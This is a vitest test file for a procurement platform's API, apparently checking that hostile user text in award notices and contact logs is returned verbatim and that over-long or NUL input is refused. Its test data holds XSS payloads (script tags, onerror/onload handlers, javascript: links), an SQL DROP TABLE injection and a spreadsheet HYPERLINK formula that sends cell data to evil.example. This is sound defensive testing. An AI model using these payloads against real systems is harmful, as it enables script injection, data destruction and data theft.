import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestResponse } from "../../core/testing/http-client.ts";
import type { AwardNotice, ContactList, EvaluationSetup } from "./contract-evaluation.ts";
import { declare, defineSetup, scoreAll, setupBody } from "./test/evaluation-factories.ts";
import {
  type CityTeam,
  cityTeam,
  contentBody,
  memberOf,
  openChallenge,
  type Person,
  type Provider,
  passDeadline,
  provider,
  submit,
  type WatchedPlatform,
  watchedPlatform,
} from "./test/factories.ts";

/**
 * Hostile user text on the public award notice (`GET /api/v1/challenges/{id}/award-notice`) and
 * in the contact log (`GET /api/v1/challenges/{id}/contacts`): the award's justification, the
 * winner's name (its organisation's), the challenge's title, a contact's subject and the city
 * person's name hold script tags, event handlers, `javascript:` links, Markdown tricks, formula
 * starts, SQL metacharacters and line breaks, written through the real routes. The API gives each
 * back verbatim — no HTML entity, no truncation at the longest length allowed — as JSON with
 * `nosniff`; one character more is refused with 400 naming the field, as is a NUL character,
 * and nothing is written. Rendering is React text (AwardNoticePage.tsx, ContactLog.tsx).
 */

const SLOW = 120_000;

const SCRIPT = "<script>window.__pwned=1</script>";
const IMG = `<img src=x onerror="window.__pwned=1">`;
const SVG = "<svg onload=window.__pwned=1>";
const IFRAME = `"><iframe src=javascript:window.__pwned=1>`;
const JS_LINK = "[link](javascript:window.__pwned=1)";
const SQL = `Robert'); DROP TABLE procurement_awards;--`;
const ENTITIES = "&lt;script&gt; &amp; &#106;avascript: &quot;";

/** Text with every payload, its line breaks kept; fits in `length` characters exactly. */
function hostile(what: string, length: number): string {
  const text = [
    `=HYPERLINK("http://evil.example/?x="&A1) ${what}`,
    SCRIPT,
    `${IMG} ${SVG}`,
    IFRAME,
    JS_LINK,
    "<javascript:window.__pwned=1>",
    `<a href="javascript:window.__pwned=1">raw anchor</a>`,
    SQL,
    ENTITIES,
    "Ünïcødé — “quotes” \u2028 and a tab\there.",
  ].join("\r\n");
  expect(text.length).toBeLessThan(length);
  // Padded to the limit, ending in a payload so that a cut shows.
  const padding = "x".repeat(length - text.length - SCRIPT.length - 1);
  return `${text} ${padding}${SCRIPT}`.slice(0, length);
}

const JUSTIFICATION_MAX = 8000;
const SUBJECT_MAX = 2000;
const justification = hostile("justification", JUSTIFICATION_MAX);
const subject = hostile("subject", SUBJECT_MAX);
const shortSubject = `${SVG} ${JS_LINK}\n${SQL}`;
const organisationName = `-Hostile ${SCRIPT} ${IMG}`.slice(0, 160);
const personName = `@Sofia ${IFRAME} ${SVG}`.slice(0, 120);
const challengeTitle = `+Cloudburst ${SCRIPT} ${SVG}`.slice(0, 160);

describe("hostile text on the award notice and in the contact log, returned verbatim", () => {
  let platform: WatchedPlatform;
  let city: CityTeam;
  let bidder: Provider;
  let chair: Person;
  let setup: EvaluationSetup;
  let challengeId: string;
  let proposalId: string;

  beforeAll(async () => {
    platform = await watchedPlatform();
    city = await cityTeam(platform, "Copenhagen");
    bidder = await provider(platform, "company", "DK", []);
    const renamed = await bidder.admin.client.patch(
      `/api/v1/organisations/${bidder.organisation.id}`,
      { name: organisationName },
    );
    expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
    chair = await memberOf(platform, city.organisationId, "member");
    const named = await chair.client.patch("/api/v1/me", { name: personName });
    expect(named.status, JSON.stringify(named.body)).toBe(200);
    const challenge = await openChallenge(platform, city, challengeTitle);
    challengeId = challenge.id;
    const submitted = await submit(
      bidder.admin.client,
      challengeId,
      { kind: "organisation", id: bidder.organisation.id },
      contentBody("HOSTILE-NOTICE"),
    );
    proposalId = submitted.proposal.id;
    setup = await defineSetup(
      city.admin.client,
      challengeId,
      setupBody([{ userId: chair.userId, role: "chair" }]),
    );
    passDeadline(platform, challenge.deadline);
    expect((await declare(chair.client, proposalId, "no_conflict")).status).toBe(200);
    expect((await scoreAll(chair.client, proposalId, setup, [8, 7, 6])).status).toBe(200);
    const locked = await chair.client.post(
      `/api/v1/challenges/${challengeId}/evaluation/lock-technical`,
    );
    expect(locked.status, JSON.stringify(locked.body)).toBe(200);
  }, SLOW);
  afterAll(() => platform.close());

  const base = () => `/api/v1/challenges/${challengeId}`;

  /** JSON, not sniffed, and not HTML-escaped on the way (the raw body holds no entity we did not write). */
  function expectPlainJson(response: TestResponse) {
    expect(response.headers["content-type"]).toMatch(/^application\/json/);
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    const raw = response.raw.body;
    // ENTITIES is the only entity-like text written; each shows exactly as often as it was
    // written (JSON may escape "<" as \u003c; the parsed value is compared elsewhere).
    expect(raw.split("&lt;").length - 1).toBe(raw.split(ENTITIES).length - 1);
    expect(raw).not.toContain("&#60;");
    expect(raw).not.toContain("&gt;script");
  }

  it(
    "records contacts with a hostile subject at its longest, and gives them back verbatim",
    async () => {
      const long = await city.admin.client.post<ContactList["contacts"][number]>(
        `${base()}/contacts`,
        {
          cityUserId: chair.userId,
          organisationId: bidder.organisation.id,
          contactAt: platform.clock.now().toISOString(),
          channel: "email",
          oneToOne: false,
          subject,
        },
      );
      expect(long.status, JSON.stringify(long.body).slice(0, 500)).toBe(201);
      expect(long.body.subject).toBe(subject);
      expect(long.body.subject).toHaveLength(SUBJECT_MAX);
      expect(long.body.cityPerson.name).toBe(personName);
      expect(long.body.organisation?.name).toBe(organisationName);
      const short = await city.admin.client.post(`${base()}/contacts`, {
        organisationId: bidder.organisation.id,
        contactAt: platform.clock.now().toISOString(),
        channel: "phone",
        subject: shortSubject,
      });
      expect(short.status).toBe(201);

      const log = await city.member.client.get<ContactList>(`${base()}/contacts`);
      expect(log.status).toBe(200);
      expectPlainJson(log);
      expect(log.body.contacts.map((contact) => contact.subject).sort()).toEqual(
        [subject, shortSubject].sort(),
      );
      expect(log.body.contacts.find((contact) => contact.subject === subject)).toMatchObject({
        cityPerson: { id: chair.userId, name: personName },
        organisation: { id: bidder.organisation.id, name: organisationName },
      });
    },
    SLOW,
  );

  it(
    "refuses a subject one character too long, or with a NUL, naming the field, and records nothing",
    async () => {
      const contact = (text: string) =>
        city.admin.client.post<{ errors?: Array<{ field: string }> }>(`${base()}/contacts`, {
          organisationId: bidder.organisation.id,
          contactAt: platform.clock.now().toISOString(),
          channel: "email",
          subject: text,
        });
      for (const text of [`${subject}x`, `NUL\u0000 ${SCRIPT}`]) {
        const refused = await contact(text);
        expect(refused.status).toBe(400);
        expect(refused.body.errors?.map((error) => error.field)).toEqual(["body.subject"]);
      }
      const log = await city.member.client.get<ContactList>(`${base()}/contacts`);
      expect(log.body.contacts).toHaveLength(2);
    },
    SLOW,
  );

  it(
    "refuses a justification one character too long, or with a NUL, naming the field, and awards nothing",
    async () => {
      for (const text of [`${justification}x`, `NUL\u0000 ${justification.slice(0, 100)}`]) {
        const refused = await chair.client.post<{ errors?: Array<{ field: string }> }>(
          `${base()}/award`,
          { proposalId, justification: text },
        );
        expect(refused.status).toBe(400);
        expect(refused.body.errors?.map((error) => error.field)).toEqual(["body.justification"]);
      }
      expect((await platform.client().get(`${base()}/award-notice`)).status).toBe(404);
    },
    SLOW,
  );

  it(
    "awards with a hostile justification at its longest: the public notice gives it, the winner's name, the title and the contacts back verbatim",
    async () => {
      const award = await chair.client.post<AwardNotice>(`${base()}/award`, {
        proposalId,
        justification,
      });
      expect(award.status, JSON.stringify(award.body).slice(0, 500)).toBe(200);
      expect(award.body.justification).toBe(justification);

      // Anyone reads the notice: no session, as the public page does.
      const notice = await platform.client().get<AwardNotice>(`${base()}/award-notice`);
      expect(notice.status).toBe(200);
      expectPlainJson(notice);
      expect(notice.body.justification).toBe(justification);
      expect(notice.body.justification).toHaveLength(JUSTIFICATION_MAX);
      expect(notice.body.winner).toEqual({ kind: "organisation", name: organisationName });
      expect(notice.body.challenge).toEqual({ id: challengeId, title: challengeTitle });
      expect(notice.body.contacts.map((contact) => contact.subject).sort()).toEqual(
        [subject, shortSubject].sort(),
      );
      expect(notice.body.contacts.find((contact) => contact.subject === subject)).toMatchObject({
        cityPerson: { id: chair.userId, name: personName },
        organisation: { id: bidder.organisation.id, name: organisationName },
        channel: "email",
        oneToOne: false,
      });
      // The line breaks are kept (CRLF, U+2028, the tab): the page shows them as text.
      expect(notice.body.justification).toContain(`${SCRIPT}\r\n${IMG} ${SVG}`);
      expect(notice.body.justification).toContain("\u2028 and a tab\there.");

      // The OCDS release publishes the same justification and winner, verbatim.
      const ocds = await platform.client().get<{
        releases: Array<{
          awards?: Array<{ description: string; suppliers: Array<{ name: string }> }>;
        }>;
      }>(`${base()}/ocds`);
      expect(ocds.status).toBe(200);
      expectPlainJson(ocds);
      const awards = ocds.body.releases.flatMap((release) => release.awards ?? []);
      expect(awards.map((entry) => entry.description)).toContain(justification);
      expect(awards.flatMap((entry) => entry.suppliers.map((supplier) => supplier.name))).toContain(
        organisationName,
      );
      expect(platform.serverErrors).toEqual([]);
    },
    SLOW,
  );
});
